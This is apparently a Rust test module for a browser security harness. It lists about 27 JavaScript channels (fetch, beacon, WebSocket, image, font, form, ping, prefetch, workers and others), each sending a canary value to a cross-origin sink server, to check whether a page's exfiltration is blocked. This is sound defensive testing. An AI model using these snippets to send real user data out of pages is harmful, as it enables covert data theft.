//! The ways by which a script could send something out, each as the few lines a thief would write. What came of them
//! is read from the servers' logs alone: a beacon answers "sent" whether it was or not.

use anyhow::Result;
use hedgerow_tests::server::Server;
use hedgerow_tests::{Browser, Engine};
use serde_json::json;

/// One way out.
pub(super) struct Channel {
    /// Its name in messages.
    pub name: &'static str,
    /// The body of an async function that sends `canary` to `sink`, the address of another origin with a trailing
    /// slash, or to `own`, the page's own server. It may throw.
    code: &'static str,
    /// Engines that do not have this way, or not as they are delivered.
    absent: &'static [Engine],
}

const fn everywhere(name: &'static str, code: &'static str) -> Channel {
    Channel { name, code, absent: &[] }
}

/// All that are tried. What is missing cannot be seen by a server on the loopback (WebTransport speaks over UDP, a
/// name server hears of `dns-prefetch`), has no constructor left (WebRTC) or takes the reader elsewhere (following a
/// link). `preconnect` is bound by no policy in any of the three browsers, and Chromium connects to the address of a
/// frame before it refuses it; neither sends a request. The page's source holds neither.
pub(super) const CHANNELS: &[Channel] = &[
    everywhere("fetch", "await fetch(sink + 'fetch?' + canary)"),
    everywhere(
        "fetch-keepalive",
        "await fetch(sink + 'keepalive?' + canary, { keepalive: true, mode: 'no-cors' })",
    ),
    everywhere(
        "xhr",
        "await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', sink + 'xhr?' + canary); x.send(); })",
    ),
    everywhere("beacon", "navigator.sendBeacon(sink + 'beacon', canary)"),
    everywhere(
        "event-source",
        "await new Promise((done) => { const s = new EventSource(sink + 'event-source?' + canary); s.onerror = () => { s.close(); done(); }; })",
    ),
    everywhere(
        "web-socket",
        "await new Promise((done) => { const s = new WebSocket(sink.replace('http', 'ws') + 'web-socket?' + canary); s.onerror = s.onclose = done; })",
    ),
    everywhere("image", "await element('img', { src: sink + 'image?' + canary })"),
    everywhere(
        "style-image",
        "const box = document.createElement('p'); document.body.append(box); box.textContent = '.'; box.style.backgroundImage = `url(${sink}style-image?${canary})`",
    ),
    everywhere("font", "await new FontFace('leak', `url(${sink}font?${canary})`).load()"),
    everywhere("script", "await element('script', { src: sink + 'script?' + canary })"),
    everywhere("style", "await element('link', { rel: 'stylesheet', href: sink + 'style?' + canary })"),
    everywhere("import", "await import(sink + 'import?' + canary)"),
    everywhere("media", "await element('audio', { preload: 'auto', src: sink + 'media?' + canary })"),
    everywhere("frame", "await element('iframe', { src: sink + 'frame?' + canary })"),
    everywhere("object", "await element('object', { type: 'text/html', data: sink + 'object?' + canary })"),
    everywhere("form", "submit({ action: sink + 'form', method: 'post' }, canary)"),
    everywhere("form-get", "submit({ action: sink + 'form-get', method: 'get' }, canary)"),
    // Firefox has it switched off.
    Channel {
        name: "ping",
        code: "const link = document.createElement('a'); link.href = location.hash || '#'; link.setAttribute('ping', sink + 'ping?' + canary); document.body.append(link); link.click()",
        absent: &[Engine::Firefox],
    },
    everywhere(
        "preload",
        "await element('link', { rel: 'preload', as: 'image', href: sink + 'preload?' + canary })",
    ),
    everywhere(
        "module-preload",
        "await element('link', { rel: 'modulepreload', href: sink + 'module-preload?' + canary })",
    ),
    // WebKit has it switched off.
    Channel {
        name: "prefetch",
        code: "await element('link', { rel: 'prefetch', href: sink + 'prefetch?' + canary })",
        absent: &[Engine::WebKit],
    },
    everywhere(
        "worker",
        "await new Promise((done) => { const w = new Worker(own + 'missing-worker.js?' + canary); w.onerror = w.onmessage = done; })",
    ),
    everywhere(
        "worker-fetch",
        "await inWorker(`fetch('${sink}worker-fetch?${canary}').finally(() => postMessage(0))`)",
    ),
    everywhere("worker-import", "await inWorker(`importScripts('${sink}worker-import?${canary}')`)"),
    everywhere(
        "worker-socket",
        "await inWorker(`new WebSocket('${sink.replace('http', 'ws')}worker-socket?${canary}').onerror = () => postMessage(0)`)",
    ),
    everywhere(
        "shared-worker",
        "await new Promise((done) => { new SharedWorker(own + 'missing-shared.js?' + canary).onerror = done; })",
    ),
    everywhere(
        "service-worker",
        "await navigator.serviceWorker.register(own + 'missing-service.js?' + canary)",
    ),
];

/// Runs one channel and gives it time to be seen or refused.
const TRY: &str = r"
const [sink, own, canary] = arguments;
const element = (name, properties) => new Promise((done) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(properties)) made.setAttribute(key, value);
  made.onload = made.onerror = made.oncanplay = done;
  document.body.append(made);
});
const submit = (properties, text) => {
  const frame = document.createElement('iframe');
  frame.name = 'leak-' + Math.random();
  const form = document.createElement('form');
  const field = document.createElement('input');
  field.name = 'text';
  field.value = text;
  form.append(field);
  for (const [key, value] of Object.entries(properties)) form.setAttribute(key, value);
  form.setAttribute('target', frame.name);
  document.body.append(frame, form);
  form.submit();
};
const inWorker = (text) => new Promise((done) => {
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  worker.onmessage = worker.onerror = done;
  setTimeout(done, 1500);
});
const attempt = (async () => { CODE; })();
const patience = new Promise((done) => setTimeout(() => done('pending'), 2500));
return await Promise.race([attempt.then(() => 'done', (error) => String(error)), patience]);
";

impl Channel {
    /// Whether this engine has the way at all.
    pub fn is_in(&self, engine: Engine) -> bool {
        !self.absent.contains(&engine)
    }

    /// Tries it; the answer is only for messages.
    pub fn attempt(&self, browser: &Browser, sink: &Server, own: &Server, canary: &str) -> Result<String> {
        let script = TRY.replace("CODE", self.code);
        let answer = browser.run_async(&script, &[json!(sink.url()), json!(own.url()), json!(canary)])?;
        Ok(answer.as_str().unwrap_or_default().to_owned())
    }
}
